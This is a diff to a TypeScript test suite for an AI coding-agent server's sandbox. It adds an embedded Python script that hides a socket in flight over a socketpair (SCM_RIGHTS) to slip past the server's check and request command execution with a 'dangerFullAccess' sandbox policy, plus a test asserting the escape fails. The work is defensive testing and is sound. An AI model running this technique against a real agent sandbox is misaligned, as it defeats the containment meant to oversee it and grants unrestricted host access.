@@ -35,6 +35,32 @@ socket.on("close", () => { console.log("CLOSED"); process.exit(0); });
 setTimeout(() => process.exit(0), 3000);
 `;
 
+/**
+ * Python (Node has no SCM_RIGHTS): connects to the listener on 127.0.0.1:PORT, and while the
+ * server looks for who holds the socket, holds it nowhere (in flight over a socketpair); then takes
+ * it back and asks the server to run CMD with full access. Tries a few times; prints what came back.
+ */
+const SMUGGLER = `import json, os, socket, struct, sys, time
+port, cmd = int(sys.argv[1]), sys.argv[2]
+def frame(message):
+    data = json.dumps(message).encode(); mask = os.urandom(4)
+    return bytes([0x81, 0x80 | 126]) + struct.pack(">H", len(data)) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))
+upgrade = b"GET / HTTP/1.1\\r\\nHost: x\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"
+run = {"id": 2, "method": "command/exec", "params": {"command": ["/bin/sh", "-c", cmd], "sandboxPolicy": {"type": "dangerFullAccess"}}}
+payload = upgrade + frame({"id": 1, "method": "initialize", "params": {"clientInfo": {"name": "x", "version": "1"}}}) + frame({"method": "initialized"}) + frame(run)
+for attempt in range(3):
+    a, b = socket.socketpair()
+    s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", port))
+    socket.send_fds(a, [b"x"], [s.fileno()]); s.close()
+    time.sleep(0.3)
+    s = socket.socket(fileno=socket.recv_fds(b, 1, 1)[1][0]); s.setblocking(True); s.settimeout(2)
+    try:
+        s.sendall(payload); answer = s.recv(65536)
+        print("GOT", answer[:80]) if answer else print("REFUSED", "closed")
+    except Exception as error:
+        print("REFUSED", type(error).__name__)
+`;
+
 function exec(cmd: string, callId: string): MockResponseInput {
   return { items: [{ type: "exec", cmd, callId }] };
 }
@@ -52,6 +78,17 @@ function fdLine(output: string): string {
   const listed = /FDS\r?\n([\s\S]*?)END/.exec(output)?.[1];
   return listed === undefined ? `(no listing in ${JSON.stringify(output)})` : listed.trim().split(/\s+/).join(" ");
 }
+
+/** Whether python3 is here (the descriptor-passing attack needs SCM_RIGHTS, which Node does not offer). */
+const python3 = (() => {
+  try {
+    execFileSync("python3", ["-c", "import socket; socket.send_fds"], { stdio: "ignore" });
+    return true;
+  } catch {
+    process.stderr.write("\n!!! python3 (3.9 or later) is missing: the descriptor-passing attack is SKIPPED. !!!\n\n");
+    return false;
+  }
+})();
 
 /** A server (as `runAs`) that listens on a socket (`listen`), running commands in workspace-write with network granted, and never asking. */
 function listeningServer(runAs: RunAs, home: string, cwd: string, modelUrl: string, listen: string[]): ServerProcess {
@@ -177,6 +214,35 @@ describe.skipIf(!bwrapAvailable).each(runAsModes)("a sandboxed command reaches n
     expect((await client.request("thread/list", {})).result).toBeDefined();
     client.close();
     expect(readdirSync(outside)).toEqual(["token"]);
+    await server.signal("SIGTERM");
+  });
+});
+
+describe.skipIf(!bwrapAvailable || !python3)("a sandboxed command granted network", () => {
+  it("cannot reach the server's listener with a socket it holds nowhere while the server looks (sent away over a socketpair)", async () => {
+    const outside = tempDir("aas-reach-out-");
+    execFileSync("chmod", ["777", outside]);
+    const home = tempDir("aas-reach-home-");
+    const cwd = tempDir("aas-reach-ws-");
+    writeFileSync(path.join(cwd, "smuggle.py"), SMUGGLER);
+    const mock = await startMockModel({ responses: [] });
+    mocks.push(mock);
+    const server = listeningServer(runAsModes[0]!, home, cwd, mock.url, ["--listen", "ws://127.0.0.1:0"]);
+    await server.waitForStderr("listening on ws://");
+    const url = /listening on (ws:\/\/[0-9.]+:\d+)/.exec(server.stderr)![1]!;
+    mock.push(
+      { items: [{ type: "exec", cmd: `python3 smuggle.py ${new URL(url).port} 'touch ${outside}/escaped'`, callId: "smuggle", yield_time_ms: 10_000 }] },
+      { items: [{ type: "message", text: "ok" }] },
+    );
+    const client = await RawWebSocketClient.connect(url, "reach");
+    const thread = await client.request("thread/start", { cwd });
+    const turn = await client.request("turn/start", { threadId: thread.result.thread.id, input: [{ type: "text", text: "Smuggle." }] });
+    await client.waitFor((m) => m.method === "turn/completed" && m.params.turn.id === turn.result.turn.id, "turn/completed");
+    client.close();
+    const output = toolOutput(mock.requests, "smuggle");
+    expect(output).not.toContain("GOT");
+    expect(output.match(/REFUSED/g)?.length, output).toBe(3);
+    expect(readdirSync(outside)).toEqual([]);
     await server.signal("SIGTERM");
   });
 });
